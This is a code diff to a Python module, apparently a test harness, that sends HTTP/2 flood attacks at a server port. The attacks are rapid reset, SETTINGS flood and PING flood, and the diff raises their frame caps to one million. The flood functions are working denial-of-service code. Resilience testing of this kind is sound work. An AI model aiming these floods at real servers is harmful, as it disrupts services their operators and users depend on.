@@ -292,13 +292,19 @@ def _flood(port: int, seconds: float, max_frames: int, frame: Callable[..., None
     endings: collections.Counter[str] = collections.Counter()
     while time.monotonic() < end and sent < max_frames:
         try:
-            sock, conn = _h2(port)
+            sock = connect(port)
         except OSError:
             endings["refused at connect"] += 1
             time.sleep(0.01)
             continue
+        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        conn.initiate_connection()
         peek = _Peek(sock, conn)
         try:
+            try:
+                sock.sendall(conn.data_to_send())
+            except OSError:
+                peek.closed()
             while time.monotonic() < end and sent < max_frames and not peek.poll():
                 for _ in range(100):
                     frame(conn, sent)
@@ -332,21 +338,21 @@ def rapid_reset(port: int, seconds: float = FLOOD_SECONDS) -> str:
         conn.send_headers(sid, _headers(), end_stream=True)
         conn.reset_stream(sid)
 
-    return _flood(port, seconds, 300_000, frame)
+    return _flood(port, seconds, 1_000_000, frame)
 
 
 def settings_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
     def frame(conn: h2.connection.H2Connection, i: int) -> None:
         conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100 + i % 7})
 
-    return _flood(port, seconds, 300_000, frame)
+    return _flood(port, seconds, 1_000_000, frame)
 
 
 def ping_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
     def frame(conn: h2.connection.H2Connection, i: int) -> None:
         conn.ping(i.to_bytes(8, "big"))
 
-    return _flood(port, seconds, 300_000, frame)
+    return _flood(port, seconds, 1_000_000, frame)
 
 
 def priority_flood(port: int, seconds: float = FLOOD_SECONDS) -> str:
